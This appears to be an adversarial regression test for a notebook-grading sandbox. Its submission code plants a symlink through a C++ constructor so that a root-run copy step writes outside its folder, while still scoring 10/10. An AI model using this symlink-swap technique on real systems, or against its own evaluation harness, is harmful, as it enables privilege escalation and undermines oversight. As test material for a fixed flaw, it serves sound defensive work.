"""Root writes where the student points (issue 54). The runner copied each library the notebook
loaded, as root, into <work>/executor/libraries: a folder inside the executor's own home,
which the executor may rename. The reference's kernels are built again with a constructor
that acts in the executor only: it renames that folder away, makes one of its own in its
place holding a link <sha256>.tmp -> /tmp/pwned-adv-copy-through-link (the sha256 is its
own copy's file name, so the bytes the notebook loads next are known), and tells the
notebook (a flag file in /tmp). The notebook then loads the same bytes under another file
name; at the next program the runner copies that capture: <sha256>.so is not in the
executor's folder, so root writes <sha256>.tmp, through the link, and creates the marker
(the executor never writes it; only root's write does). The answer is the reference's own
SiLU and keeps 10/10. Now the copies go to <work>/libraries, root's, which the executor can
only read: the rename fails, nothing is planted, no marker.

assignment: silu_ffi
base: reference
score: 10
markers:
  - /tmp/pwned-adv-copy-through-link
"""
import ctypes
import os
import shutil
import threading
import time

Path("silu_link.cc").write_text(SILU_CC + r"""
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void SwapFolder() {
  const char* folder = getenv("JAX_INTEROP_LOADED_LIBRARIES");   // set in the executor only
  Dl_info info;
  if (!folder || !dladdr((void*)&SwapFolder, &info) || !info.dli_fname) return;
  const char* name = strrchr(info.dli_fname, '/');   // this copy: <folder>/<sha256>.so
  name = name ? name + 1 : info.dli_fname;
  if (strlen(name) != 67) return;
  char old[4096], link[4200];
  snprintf(old, sizeof old, "%s.old", folder);
  if (rename(folder, old) != 0 || mkdir(folder, 0755) != 0) return;   // root's folder, swapped for ours
  snprintf(link, sizeof link, "%s/%.64s.tmp", folder, name);
  if (symlink("/tmp/pwned-adv-copy-through-link", link) != 0) return;
  int fd = open("/tmp/adv-copy-through-link-armed", O_WRONLY | O_CREAT, 0644);
  if (fd >= 0) close(fd);
}
""")
library = load_and_register("silu_link.cc", {"silu_link": "Silu", "silu_link_bwd": "SiluBwd"})


def _load_again():
    """Once the executor has planted its link: the same bytes loaded again, under another name
    (a new capture the runner copies at the next program)."""
    for _ in range(6000):
        if os.path.exists("/tmp/adv-copy-through-link-armed"):
            shutil.copy(library.path, "silu_again.so")
            ctypes.CDLL(str(Path("silu_again.so").resolve()))
            return
        time.sleep(0.1)


threading.Thread(target=_load_again, daemon=True).start()


@jax.custom_vjp
def silu_ffi(x):
    return jax.ffi.ffi_call("silu_link", jax.ShapeDtypeStruct(x.shape, x.dtype), vmap_method="broadcast_all")(x)


silu_ffi.defvjp(lambda x: (silu_ffi(x), x),
                lambda x, ct: (jax.ffi.ffi_call("silu_link_bwd", jax.ShapeDtypeStruct(x.shape, x.dtype),
                                                vmap_method="broadcast_all")(x, ct),))
